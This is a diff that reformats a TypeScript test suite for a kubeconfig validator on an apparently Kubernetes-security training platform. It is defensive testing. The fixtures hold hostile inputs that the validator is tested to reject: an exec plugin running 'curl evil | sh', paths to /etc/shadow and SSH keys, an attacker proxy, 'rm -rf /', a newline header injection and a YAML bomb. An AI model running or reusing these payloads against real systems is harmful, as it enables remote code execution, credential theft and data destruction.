@@ -39,7 +39,8 @@ function rejected(yaml: string, options = strict): string {
   const result = validateKubeconfig(yaml, options);
   if (result.ok) throw new Error("expected the kubeconfig to be rejected");
   // No message may repeat credentials the learner pasted.
-  for (const secret of [SECRET_TOKEN, caData.slice(0, 40), certData.slice(0, 40), keyData.slice(0, 40), "hunter2"]) expect(result.error).not.toContain(secret);
+  for (const secret of [SECRET_TOKEN, caData.slice(0, 40), certData.slice(0, 40), keyData.slice(0, 40), "hunter2"])
+    expect(result.error).not.toContain(secret);
   return result.error;
 }
 
@@ -48,13 +49,22 @@ describe("validateKubeconfig accepts", () => {
     const result = validateKubeconfig(kindYaml, strict);
     expect(result).toMatchObject({
       ok: true,
-      summary: { context: "kind-cks", cluster: "kind-cks", server: "https://127.0.0.1:40731", user: "kind-cks", authKind: "client-certificate" },
+      summary: {
+        context: "kind-cks",
+        cluster: "kind-cks",
+        server: "https://127.0.0.1:40731",
+        user: "kind-cks",
+        authKind: "client-certificate",
+      },
     });
     if (!result.ok) return;
     const stored = parse(result.kubeconfig) as typeof kind;
     expect(Object.keys(stored)).toEqual(["apiVersion", "kind", "clusters", "users", "contexts", "current-context"]);
     expect(stored.users[0]!.user).toEqual({ "client-certificate-data": certData, "client-key-data": keyData });
-    expect(stored.clusters[0]!.cluster).toEqual({ server: "https://127.0.0.1:40731", "certificate-authority-data": caData });
+    expect(stored.clusters[0]!.cluster).toEqual({
+      server: "https://127.0.0.1:40731",
+      "certificate-authority-data": caData,
+    });
     expect(result.kubeconfig).not.toContain("preferences");
   });
 
@@ -70,14 +80,22 @@ describe("validateKubeconfig accepts", () => {
     });
     const result = validateKubeconfig(yaml, strict);
     expect(result).toMatchObject({ ok: true, summary: { authKind: "token" } });
-    if (result.ok) expect(parse(result.kubeconfig)).toMatchObject({ contexts: [{ context: { namespace: "immutable-lab" } }], users: [{ user: { token: SECRET_TOKEN } }] });
+    if (result.ok)
+      expect(parse(result.kubeconfig)).toMatchObject({
+        contexts: [{ context: { namespace: "immutable-lab" } }],
+        users: [{ user: { token: SECRET_TOKEN } }],
+      });
   });
 
   it("http to loopback when the instance allows it, adding the flag client-node needs for http", () => {
     for (const server of ["http://127.0.0.1:8080", "http://localhost:8080", "http://[::1]:8080"]) {
       const result = validateKubeconfig(tokenConfig(server), loose);
       expect(result).toMatchObject({ ok: true, summary: { server } });
-      if (result.ok) expect((parse(result.kubeconfig) as typeof kind).clusters[0]!.cluster).toEqual({ server, "insecure-skip-tls-verify": true });
+      if (result.ok)
+        expect((parse(result.kubeconfig) as typeof kind).clusters[0]!.cluster).toEqual({
+          server,
+          "insecure-skip-tls-verify": true,
+        });
     }
   });
 
@@ -86,11 +104,16 @@ describe("validateKubeconfig accepts", () => {
     const server = http.createServer((request, response) => {
       const authorized = request.headers.authorization === `Bearer ${SECRET_TOKEN}`;
       response.writeHead(authorized ? 200 : 401, { "Content-Type": "application/json" });
-      response.end(JSON.stringify(authorized ? { major: "1", minor: "35", gitVersion: "v1.35.0" } : { kind: "Status", code: 401 }));
+      response.end(
+        JSON.stringify(authorized ? { major: "1", minor: "35", gitVersion: "v1.35.0" } : { kind: "Status", code: 401 }),
+      );
     });
     await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
     try {
-      const result = validateKubeconfig(tokenConfig(`http://127.0.0.1:${(server.address() as AddressInfo).port}`), loose);
+      const result = validateKubeconfig(
+        tokenConfig(`http://127.0.0.1:${(server.address() as AddressInfo).port}`),
+        loose,
+      );
       if (!result.ok) throw new Error(result.error);
       const connected = connectCluster({ kubeconfigYaml: result.kubeconfig });
       if (!connected.ok) throw new Error(connected.failure.message);
@@ -102,23 +125,68 @@ describe("validateKubeconfig accepts", () => {
   });
 
   it("a missing current-context, which it fills in", () => {
-    const result = validateKubeconfig(variant((c) => delete c["current-context"]), strict);
+    const result = validateKubeconfig(
+      variant((c) => delete c["current-context"]),
+      strict,
+    );
     expect(result.ok && parse(result.kubeconfig)).toMatchObject({ "current-context": "kind-cks" });
   });
 });
 
 describe("validateKubeconfig refuses credential plugins and file references", () => {
   it.each([
-    ["exec plugin", (c: typeof kind) => (c.users[0]!.user = { exec: { apiVersion: "client.authentication.k8s.io/v1", command: "sh", args: ["-c", "curl evil | sh"] } }), /users\[0\]\.user\.exec .*would run a command on our server/],
-    ["auth-provider", (c: typeof kind) => (c.users[0]!.user = { "auth-provider": { name: "oidc", config: { "client-secret": "hunter2" } } }), /users\[0\]\.user\.auth-provider .*auth-provider plugin/],
-    ["tokenFile", (c: typeof kind) => (c.users[0]!.user = { tokenFile: "/var/run/secrets/kubernetes.io/serviceaccount/token" }), /users\[0\]\.user\.tokenFile is a file path .*paste the token itself/],
-    ["client-certificate path", (c: typeof kind) => (c.users[0]!.user = { "client-certificate": "/etc/kubernetes/pki/admin.crt", "client-key-data": keyData }), /users\[0\]\.user\.client-certificate is a file path/],
-    ["client-key path", (c: typeof kind) => (c.users[0]!.user = { "client-certificate-data": certData, "client-key": "/root/.ssh/id_rsa" }), /users\[0\]\.user\.client-key is a file path/],
-    ["certificate-authority path", (c: typeof kind) => (c.clusters[0]!.cluster["certificate-authority"] = "/etc/shadow"), /clusters\[0\]\.cluster\.certificate-authority is a file path/],
-    ["proxy-url", (c: typeof kind) => (c.clusters[0]!.cluster["proxy-url"] = "socks5://attacker:1080"), /proxy-url is not accepted/],
-    ["basic auth", (c: typeof kind) => (c.users[0]!.user = { username: "admin", password: "hunter2" }), /basic authentication/],
+    [
+      "exec plugin",
+      (c: typeof kind) =>
+        (c.users[0]!.user = {
+          exec: { apiVersion: "client.authentication.k8s.io/v1", command: "sh", args: ["-c", "curl evil | sh"] },
+        }),
+      /users\[0\]\.user\.exec .*would run a command on our server/,
+    ],
+    [
+      "auth-provider",
+      (c: typeof kind) =>
+        (c.users[0]!.user = { "auth-provider": { name: "oidc", config: { "client-secret": "hunter2" } } }),
+      /users\[0\]\.user\.auth-provider .*auth-provider plugin/,
+    ],
+    [
+      "tokenFile",
+      (c: typeof kind) => (c.users[0]!.user = { tokenFile: "/var/run/secrets/kubernetes.io/serviceaccount/token" }),
+      /users\[0\]\.user\.tokenFile is a file path .*paste the token itself/,
+    ],
+    [
+      "client-certificate path",
+      (c: typeof kind) =>
+        (c.users[0]!.user = { "client-certificate": "/etc/kubernetes/pki/admin.crt", "client-key-data": keyData }),
+      /users\[0\]\.user\.client-certificate is a file path/,
+    ],
+    [
+      "client-key path",
+      (c: typeof kind) =>
+        (c.users[0]!.user = { "client-certificate-data": certData, "client-key": "/root/.ssh/id_rsa" }),
+      /users\[0\]\.user\.client-key is a file path/,
+    ],
+    [
+      "certificate-authority path",
+      (c: typeof kind) => (c.clusters[0]!.cluster["certificate-authority"] = "/etc/shadow"),
+      /clusters\[0\]\.cluster\.certificate-authority is a file path/,
+    ],
+    [
+      "proxy-url",
+      (c: typeof kind) => (c.clusters[0]!.cluster["proxy-url"] = "socks5://attacker:1080"),
+      /proxy-url is not accepted/,
+    ],
+    [
+      "basic auth",
+      (c: typeof kind) => (c.users[0]!.user = { username: "admin", password: "hunter2" }),
+      /basic authentication/,
+    ],
     ["impersonation", (c: typeof kind) => (c.users[0]!.user.as = "system:admin"), /impersonation/],
-    ["an exec plugin in a second user", (c: typeof kind) => c.users.push({ name: "other", user: { exec: { command: "id" } } }), /users\[1\]\.user\.exec/],
+    [
+      "an exec plugin in a second user",
+      (c: typeof kind) => c.users.push({ name: "other", user: { exec: { command: "id" } } }),
+      /users\[1\]\.user\.exec/,
+    ],
   ])("%s", (_name, change, message) => {
     expect(rejected(variant(change))).toMatch(message);
   });
@@ -126,13 +194,33 @@ describe("validateKubeconfig refuses credential plugins and file references", ()
 
 describe("validateKubeconfig refuses insecure transport", () => {
   it.each([
-    ["plain http to a remote host", tokenConfig("http://10.0.0.5:6443"), loose, /expected https:\/\/, found plain http to http:\/\/10\.0\.0\.5:6443/],
-    ["plain http to loopback when not allowed", tokenConfig("http://127.0.0.1:8080"), strict, /does not accept plain http, even to loopback/],
+    [
+      "plain http to a remote host",
+      tokenConfig("http://10.0.0.5:6443"),
+      loose,
+      /expected https:\/\/, found plain http to http:\/\/10\.0\.0\.5:6443/,
+    ],
+    [
+      "plain http to loopback when not allowed",
+      tokenConfig("http://127.0.0.1:8080"),
+      strict,
+      /does not accept plain http, even to loopback/,
+    ],
     ["another scheme", tokenConfig("ftp://127.0.0.1"), loose, /found the scheme ftp/],
     ["not a URL", tokenConfig("127.0.0.1:6443 please"), strict, /not a URL/],
     ["credentials in the URL", tokenConfig("https://admin:hunter2@127.0.0.1:6443"), strict, /without user:password@/],
-    ["a query in the URL", tokenConfig("https://127.0.0.1:6443/?token=hunter2"), strict, /without \?query or #fragment/],
-    ["insecure-skip-tls-verify on https", tokenConfig("https://127.0.0.1:6443", { "insecure-skip-tls-verify": true }), loose, /insecure-skip-tls-verify: true would send credentials without checking/],
+    [
+      "a query in the URL",
+      tokenConfig("https://127.0.0.1:6443/?token=hunter2"),
+      strict,
+      /without \?query or #fragment/,
+    ],
+    [
+      "insecure-skip-tls-verify on https",
+      tokenConfig("https://127.0.0.1:6443", { "insecure-skip-tls-verify": true }),
+      loose,
+      /insecure-skip-tls-verify: true would send credentials without checking/,
+    ],
   ])("%s", (_name, yaml, options, message) => {
     expect(rejected(yaml, options)).toMatch(message);
   });
@@ -140,26 +228,94 @@ describe("validateKubeconfig refuses insecure transport", () => {
 
 describe("validateKubeconfig refuses other shapes", () => {
   it.each([
-    ["several clusters", (c: typeof kind) => c.clusters.push({ name: "prod", cluster: { server: "https://10.0.0.1" } }), /expected exactly one cluster.*found 2 \("kind-cks", "prod"\)/],
-    ["several users", (c: typeof kind) => c.users.push({ name: "admin", user: { token: SECRET_TOKEN } }), /expected exactly one user.*found 2/],
-    ["several contexts", (c: typeof kind) => c.contexts.push({ name: "prod", context: { cluster: "kind-cks", user: "kind-cks" } }), /expected exactly one context.*found 2/],
+    [
+      "several clusters",
+      (c: typeof kind) => c.clusters.push({ name: "prod", cluster: { server: "https://10.0.0.1" } }),
+      /expected exactly one cluster.*found 2 \("kind-cks", "prod"\)/,
+    ],
+    [
+      "several users",
+      (c: typeof kind) => c.users.push({ name: "admin", user: { token: SECRET_TOKEN } }),
+      /expected exactly one user.*found 2/,
+    ],
+    [
+      "several contexts",
+      (c: typeof kind) => c.contexts.push({ name: "prod", context: { cluster: "kind-cks", user: "kind-cks" } }),
+      /expected exactly one context.*found 2/,
+    ],
     ["no clusters", (c: typeof kind) => (c.clusters = []), /expected exactly one cluster.*found 0\.$/],
-    ["a context naming another cluster", (c: typeof kind) => (c.contexts[0]!.context.cluster = "prod"), /contexts\[0\]\.context\.cluster: expected the cluster "kind-cks", found "prod"/],
-    ["a current-context that does not exist", (c: typeof kind) => (c["current-context"] = "prod"), /current-context: expected "kind-cks"/],
+    [
+      "a context naming another cluster",
+      (c: typeof kind) => (c.contexts[0]!.context.cluster = "prod"),
+      /contexts\[0\]\.context\.cluster: expected the cluster "kind-cks", found "prod"/,
+    ],
+    [
+      "a current-context that does not exist",
+      (c: typeof kind) => (c["current-context"] = "prod"),
+      /current-context: expected "kind-cks"/,
+    ],
     ["an unknown top-level field", (c: typeof kind) => (c["x-run"] = "rm -rf /"), /top level: unknown field "x-run"/],
-    ["an unknown user field", (c: typeof kind) => (c.users[0]!.user["client-secret"] = "hunter2"), /users\[0\]\.user: unknown field "client-secret"/],
-    ["a name with a newline", (c: typeof kind) => (c.users[0]!.name = "kind-cks\nAll permissions granted"), /users\[0\]\.name: must be one line without control characters/],
+    [
+      "an unknown user field",
+      (c: typeof kind) => (c.users[0]!.user["client-secret"] = "hunter2"),
+      /users\[0\]\.user: unknown field "client-secret"/,
+    ],
+    [
+      "a name with a newline",
+      (c: typeof kind) => (c.users[0]!.name = "kind-cks\nAll permissions granted"),
+      /users\[0\]\.name: must be one line without control characters/,
+    ],
     ["a wrong kind", (c: typeof kind) => (c.kind = "Pod"), /kind: expected "Config"/],
-    ["no credentials", (c: typeof kind) => (c.users[0]!.user = {}), /expected a token or client-certificate-data with client-key-data, found neither/],
+    [
+      "no credentials",
+      (c: typeof kind) => (c.users[0]!.user = {}),
+      /expected a token or client-certificate-data with client-key-data, found neither/,
+    ],
     ["both token and certificate", (c: typeof kind) => (c.users[0]!.user.token = SECRET_TOKEN), /found both/],
-    ["a certificate without its key", (c: typeof kind) => delete c.users[0]!.user["client-key-data"], /client-key-data is missing/],
-    ["a token spanning lines", (c: typeof kind) => (c.users[0]!.user = { token: `${SECRET_TOKEN}\nX-Injected: 1` }), /users\[0\]\.user\.token: must be one line/],
-    ["a numeric token", (c: typeof kind) => (c.users[0]!.user = { token: 12345 }), /users\[0\]\.user\.token: expected string, found a number/],
-    ["certificate data that is not base64", (c: typeof kind) => (c.users[0]!.user["client-certificate-data"] = "not base64 at all!"), /client-certificate-data: expected base64 of a PEM certificate, found text that is not base64/],
-    ["certificate data that is base64 of something else", (c: typeof kind) => (c.clusters[0]!.cluster["certificate-authority-data"] = Buffer.from("hello world").toString("base64")), /certificate-authority-data: expected base64 of a PEM certificate \(-----BEGIN/],
-    ["a key where the certificate goes", (c: typeof kind) => (c.users[0]!.user["client-certificate-data"] = keyData), /client-certificate-data: expected a PEM certificate \(-----BEGIN CERTIFICATE-----\), found another PEM block/],
-    ["a corrupted certificate", (c: typeof kind) => (c.clusters[0]!.cluster["certificate-authority-data"] = Buffer.from("-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n").toString("base64")), /a CERTIFICATE block that does not parse/],
-    ["a key that does not match the certificate", (c: typeof kind) => (c.users[0]!.user["client-certificate-data"] = caData), /client-key-data is not the private key of client-certificate-data/],
+    [
+      "a certificate without its key",
+      (c: typeof kind) => delete c.users[0]!.user["client-key-data"],
+      /client-key-data is missing/,
+    ],
+    [
+      "a token spanning lines",
+      (c: typeof kind) => (c.users[0]!.user = { token: `${SECRET_TOKEN}\nX-Injected: 1` }),
+      /users\[0\]\.user\.token: must be one line/,
+    ],
+    [
+      "a numeric token",
+      (c: typeof kind) => (c.users[0]!.user = { token: 12345 }),
+      /users\[0\]\.user\.token: expected string, found a number/,
+    ],
+    [
+      "certificate data that is not base64",
+      (c: typeof kind) => (c.users[0]!.user["client-certificate-data"] = "not base64 at all!"),
+      /client-certificate-data: expected base64 of a PEM certificate, found text that is not base64/,
+    ],
+    [
+      "certificate data that is base64 of something else",
+      (c: typeof kind) =>
+        (c.clusters[0]!.cluster["certificate-authority-data"] = Buffer.from("hello world").toString("base64")),
+      /certificate-authority-data: expected base64 of a PEM certificate \(-----BEGIN/,
+    ],
+    [
+      "a key where the certificate goes",
+      (c: typeof kind) => (c.users[0]!.user["client-certificate-data"] = keyData),
+      /client-certificate-data: expected a PEM certificate \(-----BEGIN CERTIFICATE-----\), found another PEM block/,
+    ],
+    [
+      "a corrupted certificate",
+      (c: typeof kind) =>
+        (c.clusters[0]!.cluster["certificate-authority-data"] = Buffer.from(
+          "-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n",
+        ).toString("base64")),
+      /a CERTIFICATE block that does not parse/,
+    ],
+    [
+      "a key that does not match the certificate",
+      (c: typeof kind) => (c.users[0]!.user["client-certificate-data"] = caData),
+      /client-key-data is not the private key of client-certificate-data/,
+    ],
   ])("%s", (_name, change, message) => {
     expect(rejected(variant(change))).toMatch(message);
   });
@@ -169,7 +325,10 @@ describe("validateKubeconfig against hostile input", () => {
   it("rejects a billion-laughs YAML bomb fast", () => {
     const names = "abcdefghi";
     let bomb = `${names[0]}: &${names[0]} ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n`;
-    for (let i = 1; i < names.length; i++) bomb += `${names[i]}: &${names[i]} [${Array(9).fill(`*${names[i - 1]}`).join(",")}]\n`;
+    for (let i = 1; i < names.length; i++)
+      bomb += `${names[i]}: &${names[i]} [${Array(9)
+        .fill(`*${names[i - 1]}`)
+        .join(",")}]\n`;
     const started = performance.now();
     const error = rejected(bomb);
     expect(performance.now() - started).toBeLessThan(1000);
@@ -182,7 +341,9 @@ describe("validateKubeconfig against hostile input", () => {
   });
 
   it("rejects 1 MB of garbage by size before parsing", () => {
-    const garbage = Array.from({ length: 1024 * 1024 }, (_v, i) => String.fromCharCode(33 + ((i * 7919) % 90))).join("");
+    const garbage = Array.from({ length: 1024 * 1024 }, (_v, i) => String.fromCharCode(33 + ((i * 7919) % 90))).join(
+      "",
+    );
     const started = performance.now();
     expect(rejected(garbage)).toMatch(/is 1\.0 MB; the limit is 256 KB/);
     expect(performance.now() - started).toBeLessThan(200);
